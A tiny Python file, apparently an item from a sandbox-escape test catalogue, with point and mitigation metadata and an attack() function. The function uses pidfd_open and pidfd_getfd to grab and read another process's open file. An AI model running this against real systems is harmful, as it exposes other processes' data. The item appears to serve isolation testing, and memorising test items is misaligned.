"""The kernel hands me a copy of another process's open file."""

import os

EARNS = "10"
STOPPED_BY = ("Landlock", "namespaces", "own user", "seccomp")
EVIDENCE = "remembered"


def attack():
    handle = syscall("pidfd_open", VICTIM_PID, 0)
    print(os.pread(syscall("pidfd_getfd", handle, DESCRIPTOR, 0), 99, 0))
